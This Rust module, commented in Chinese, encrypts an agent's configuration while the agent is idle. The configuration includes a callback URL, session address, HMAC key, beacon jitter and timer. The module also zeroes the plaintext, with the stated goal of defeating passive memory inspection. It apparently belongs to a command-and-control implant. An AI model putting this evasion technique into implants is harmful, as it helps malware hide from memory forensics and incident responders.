// 状态加密模块
//
// Agent 空闲时将敏感配置（ID、URL、HMAC 密钥等）整体加密成信封，
// 并清零明文，只在需要时解密恢复。防护目标是空闲窗口内的被动内存检视。
//
// 主密钥：进程内惰性生成，PBKDF2-HMAC-SHA256 十万轮，
// 熵源 = 纳秒时间戳 + 内存统计 + 64 字节随机数，每次派生使用随机 32 字节盐。
// 信封：AES-256-GCM，随机 12 字节 nonce，无附加数据。

use aes_gcm::{
    aead::{Aead, KeyInit},
    Aes256Gcm, Nonce,
};
use log::{debug, warn};
use pbkdf2::pbkdf2_hmac;
use rand::RngCore;
use serde::{Deserialize, Serialize};
use sha2::Sha256;
use std::time::{SystemTime, UNIX_EPOCH};
use sysinfo::{System, SystemExt};
use zeroize::Zeroize;

use crate::error::{AgentError, Result};

/// AES-256 密钥长度
pub const KEY_SIZE: usize = 32;
/// GCM nonce 长度
pub const NONCE_SIZE: usize = 12;
/// PBKDF2 盐长度
pub const SALT_SIZE: usize = 32;
/// PBKDF2 迭代次数
pub const PBKDF2_ITERATIONS: u32 = 100_000;

/// 待加密的配置快照
///
/// 信封里的 JSON 形态。字段与运行时 `AgentConfig` 对应，
/// 外加打包时顺带采集的主机特征。
#[derive(Serialize, Deserialize, Clone, PartialEq)]
pub struct StateSnapshot {
    pub id: String,
    pub jitter: f64,
    pub timer: f64,
    pub url: String,
    pub session_addr: String,
    pub hmac_key: String,
    pub hostname: String,
    pub os: String,
    pub client_id: String,
}

impl StateSnapshot {
    /// 清零快照中的全部敏感字段
    fn clear(&mut self) {
        self.id.zeroize();
        self.url.zeroize();
        self.session_addr.zeroize();
        self.hmac_key.zeroize();
        self.hostname.zeroize();
        self.os.zeroize();
        self.client_id.zeroize();
        self.jitter = 0.0;
        self.timer = 0.0;
    }
}

/// 内存中的加密信封
///
/// 不变式：信封存在当且仅当明文配置已被清零。
pub struct EncryptedState {
    pub ciphertext: Vec<u8>,
    pub nonce: [u8; NONCE_SIZE],
    pub salt: [u8; SALT_SIZE],
    pub timestamp: i64,
}

impl EncryptedState {
    fn clear(&mut self) {
        self.ciphertext.zeroize();
        self.nonce.zeroize();
        self.salt.zeroize();
        self.timestamp = 0;
    }
}

/// 状态保险库：主密钥 + 信封 + 加密标志
pub struct StateVault {
    master_key: Option<[u8; KEY_SIZE]>,
    envelope: Option<EncryptedState>,
    encrypted: bool,
}

impl Default for StateVault {
    fn default() -> Self {
        Self::new()
    }
}

impl StateVault {
    pub fn new() -> Self {
        Self {
            master_key: None,
            envelope: None,
            encrypted: false,
        }
    }

    /// 当前是否处于加密状态
    pub fn is_encrypted(&self) -> bool {
        self.encrypted
    }

    /// 主密钥是否仍在内存中
    pub fn has_master_key(&self) -> bool {
        self.master_key.is_some()
    }

    /// 从系统熵派生主密钥
    ///
    /// 熵源：纳秒时间戳 + 内存统计（total/used/available）+ 64 字节随机数。
    /// 派生完成后熵缓冲会被清零。
    pub fn generate_master_key(&mut self) -> Result<()> {
        debug!("Generating master key from system entropy");

        let mut salt = [0u8; SALT_SIZE];
        rand::thread_rng().fill_bytes(&mut salt);

        let mut entropy = gather_system_entropy();
        let mut key = [0u8; KEY_SIZE];
        pbkdf2_hmac::<Sha256>(&entropy, &salt, PBKDF2_ITERATIONS, &mut key);
        entropy.zeroize();
        salt.zeroize();

        self.master_key = Some(key);
        debug!("Master key derived ({} PBKDF2 iterations)", PBKDF2_ITERATIONS);
        Ok(())
    }

    /// 加密一份配置快照并持有信封
    ///
    /// 已处于加密状态时为 no-op。快照序列化出的明文在加密后被清零。
    pub fn encrypt(&mut self, mut snapshot: StateSnapshot) -> Result<()> {
        if self.encrypted {
            debug!("State is already encrypted, skipping");
            return Ok(());
        }

        if self.master_key.is_none() {
            self.generate_master_key()?;
        }
        let key = match self.master_key.as_ref() {
            Some(k) => k,
            None => return Err(AgentError::State("master key unavailable".to_string())),
        };

        let mut plaintext = serde_json::to_vec(&snapshot)?;

        let cipher = Aes256Gcm::new_from_slice(key)
            .map_err(|e| AgentError::State(format!("invalid master key: {}", e)))?;

        let mut nonce_bytes = [0u8; NONCE_SIZE];
        rand::thread_rng().fill_bytes(&mut nonce_bytes);
        let nonce = Nonce::from_slice(&nonce_bytes);

        let mut salt = [0u8; SALT_SIZE];
        rand::thread_rng().fill_bytes(&mut salt);

        let ciphertext = cipher
            .encrypt(nonce, plaintext.as_slice())
            .map_err(|_| AgentError::State("state encryption failed".to_string()))?;

        plaintext.zeroize();
        snapshot.clear();

        let timestamp = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .map(|d| d.as_secs() as i64)
            .unwrap_or(0);

        self.envelope = Some(EncryptedState {
            ciphertext,
            nonce: nonce_bytes,
            salt,
            timestamp,
        });
        self.encrypted = true;
        debug!("State envelope stored (timestamp: {})", timestamp);
        Ok(())
    }

    /// 解密信封，返回恢复出的快照
    ///
    /// 成功时信封被清零销毁，加密标志复位。
    /// 信封缺失或 AEAD 校验失败时返回错误。
    pub fn decrypt(&mut self) -> Result<StateSnapshot> {
        if !self.encrypted {
            return Err(AgentError::State("no encrypted state available".to_string()));
        }
        let envelope = match self.envelope.as_ref() {
            Some(e) => e,
            None => return Err(AgentError::State("encrypted state is missing".to_string())),
        };
        let key = match self.master_key.as_ref() {
            Some(k) => k,
            None => return Err(AgentError::State("master key is missing".to_string())),
        };

        let cipher = Aes256Gcm::new_from_slice(key)
            .map_err(|e| AgentError::State(format!("invalid master key: {}", e)))?;
        let nonce = Nonce::from_slice(&envelope.nonce);

        let mut plaintext = cipher
            .decrypt(nonce, envelope.ciphertext.as_slice())
            .map_err(|_| AgentError::State("state decryption failed".to_string()))?;

        let snapshot: StateSnapshot = match serde_json::from_slice(&plaintext) {
            Ok(s) => s,
            Err(e) => {
                plaintext.zeroize();
                return Err(AgentError::State(format!("snapshot unmarshal failed: {}", e)));
            }
        };
        plaintext.zeroize();

        if let Some(mut envelope) = self.envelope.take() {
            envelope.clear();
        }
        self.encrypted = false;
        debug!("State envelope decrypted and destroyed");
        Ok(snapshot)
    }

    /// 清零并丢弃主密钥（进程退出前调用）
    pub fn wipe_master_key(&mut self) {
        if let Some(mut key) = self.master_key.take() {
            key.zeroize();
            debug!("Master key wiped");
        }
    }
}

/// 采集系统熵：时间戳 + 内存统计 + 随机字节
fn gather_system_entropy() -> Vec<u8> {
    let mut entropy = Vec::with_capacity(128);

    let nanos = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_nanos())
        .unwrap_or(0);
    entropy.extend_from_slice(nanos.to_string().as_bytes());

    let mut sys = System::new();
    sys.refresh_memory();
    entropy.extend_from_slice(
        format!(
            "{}{}{}",
            sys.total_memory(),
            sys.used_memory(),
            sys.available_memory()
        )
        .as_bytes(),
    );

    let mut random_bytes = [0u8; 64];
    rand::thread_rng().fill_bytes(&mut random_bytes);
    entropy.extend_from_slice(&random_bytes);
    random_bytes.zeroize();

    if entropy.len() < 64 {
        warn!("System entropy unexpectedly small: {} bytes", entropy.len());
    }
    entropy
}
